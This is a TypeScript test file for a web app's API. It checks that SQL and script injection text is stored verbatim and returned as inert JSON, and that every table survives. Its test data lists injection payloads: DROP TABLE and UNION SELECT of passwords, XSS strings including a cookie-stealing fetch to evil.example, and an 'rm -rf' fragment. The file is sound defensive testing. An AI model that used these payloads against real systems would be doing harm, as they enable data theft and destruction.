/**
 * SQL and script injection text is data: every field people write is stored exactly as written
 * (queries are parameterised, nothing is escaped or stripped on the way in), every table is still
 * there afterwards, and what the API sends back is JSON a browser will not run or sniff as a page
 * (nosniff, a CSP of default-src 'none'). The browser side (shown as text, nothing runs) is in
 * e2e/security.spec.ts; contact messages and community posts have the same check in their own
 * route tests.
 */
import { sql } from 'drizzle-orm';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { answerRecordFor, scoreAssessment } from '@core/assessment-scoring';
import { assessmentQuestions } from '@core/content/assessment-questions';
import { buildApp } from '../app';
import type { DatabaseHandle } from '../db/client';
import { signInTool, type CookieJar } from '../test-support/test-app';
import { testConfig } from '../test-support/test-config';
import { testDatabases } from '../test-support/test-database';

const injections = [
  "Robert'); DROP TABLE bookings; --",
  "' OR '1'='1' --",
  "1; DELETE FROM users WHERE 'a'='a",
  "x' UNION SELECT username, password FROM users --",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`https://evil.example/?c=`+document.cookie)">',
  '"><svg/onload=alert(1)>',
  '{{constructor.constructor("alert(1)")()}} ${7*7} <%= 7*7 %>',
  '\\x00\' \\\'; -- /* */ `rm -rf`',
] as const;

type Rows<T> = { rows: T[] };

describe.each(testDatabases())('injection text is stored verbatim and answered inert on $name', (target) => {
  let database: DatabaseHandle;
  let app: FastifyInstance;
  let jar: CookieJar;
  const email = 'verbatim@example.org';

  beforeAll(async () => {
    database = await target.open();
    app = await buildApp(testConfig({ rateLimitEnabled: false }), { database });
    jar = (await signInTool(app, email, 'a long enough passphrase')).jar;
  });
  afterAll(async () => {
    await app?.close();
    await database?.close();
  });

  const column = async <T>(query: ReturnType<typeof sql>) => ((await database.db.execute(query)) as unknown as Rows<T>).rows;
  const expectInertJson = (response: LightMyRequestResponse) => {
    expect(response.headers['content-type']).toMatch(/^application\/json/);
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    expect(response.headers['content-security-policy']).toContain("default-src 'none'");
  };

  it('keeps reflections and boundary scripts exactly as written and gives them back as JSON', async () => {
    for (const [index, text] of injections.entries()) {
      const day = await app.inject({ method: 'POST', url: '/api/affirmations', headers: jar.headers(), payload: { day: index + 1, completed: true, reflection: text } });
      expect(day.statusCode, text).toBe(201);
      const script = await app.inject({
        method: 'POST',
        url: '/api/boundary-scripts',
        headers: jar.headers(),
        payload: { toxicBehavior: 'gaslighting', situation: text, generatedScript: `I said: ${text}` },
      });
      expect(script.statusCode, text).toBe(201);
      expectInertJson(script);
    }
    const days = await app.inject({ method: 'GET', url: `/api/affirmations/${encodeURIComponent(email)}`, headers: jar.headers() });
    expectInertJson(days);
    expect(days.json<{ reflection: string }[]>().map((day) => day.reflection)).toEqual([...injections]);
    const scripts = await app.inject({ method: 'GET', url: `/api/boundary-scripts/${encodeURIComponent(email)}`, headers: jar.headers() });
    expectInertJson(scripts);
    expect(scripts.json<{ situation: string; generatedScript: string }[]>().map((script) => script.situation).sort()).toEqual([...injections].sort());
    expect(scripts.json<{ generatedScript: string }[]>().map((script) => script.generatedScript).sort()).toEqual(injections.map((text) => `I said: ${text}`).sort());
  });

  it('keeps bookings, signups and assessments exactly as written', async () => {
    const answers = assessmentQuestions.map((question) => answerRecordFor(question, question.options[0] ?? ''));
    const result = scoreAssessment(answers);
    for (const [index, text] of injections.entries()) {
      const booking = await app.inject({
        method: 'POST',
        url: '/api/bookings',
        payload: {
          name: text,
          email: 'verbatim@example.org',
          phone: '555-123-4567',
          serviceType: 'consultation',
          preferredDateTime: new Date(Date.now() + 86_400_000).toISOString(),
          notes: text,
        },
      });
      expect(booking.statusCode, text).toBe(201);
      expectInertJson(booking);
      const signup = await app.inject({
        method: 'POST',
        url: '/api/signup',
        payload: { firstName: text, lastName: text, email: `verbatim.${index}@example.org`, interests: [] },
      });
      expect(signup.statusCode, text).toBe(201);
      const assessment = await app.inject({
        method: 'POST',
        url: '/api/assessment',
        payload: { name: text, email: 'verbatim@example.org', answers, score: result.score, riskLevel: result.riskLevel },
      });
      expect(assessment.statusCode, text).toBe(201);
      // Nothing she wrote is echoed back by these three.
      for (const response of [booking, signup, assessment]) expect(response.body).not.toContain(text);
    }
    const bookings = await column<{ name: string; notes: string }>(sql`select name, notes from bookings order by id`);
    expect(bookings.map((row) => row.name)).toEqual([...injections]);
    expect(bookings.map((row) => row.notes)).toEqual([...injections]);
    const signups = await column<{ first_name: string; last_name: string }>(sql`select first_name, last_name from user_signups order by id`);
    expect(signups.map((row) => [row.first_name, row.last_name])).toEqual(injections.map((text) => [text, text]));
    const assessments = await column<{ name: string }>(sql`select name from assessment_results order by id`);
    expect(assessments.map((row) => row.name)).toEqual([...injections]);
  });

  it('leaves every table and every account in place', async () => {
    const tables = await column<{ table_name: string }>(sql`select table_name from information_schema.tables where table_schema = 'public'`);
    for (const table of ['users', 'sessions', 'bookings', 'boundary_scripts', 'affirmation_progress', 'user_signups', 'assessment_results']) {
      expect(tables.map((row) => row.table_name)).toContain(table);
    }
    const users = await column<{ username: string }>(sql`select username from users`);
    expect(users.map((row) => row.username)).toEqual([email]);
  });
});
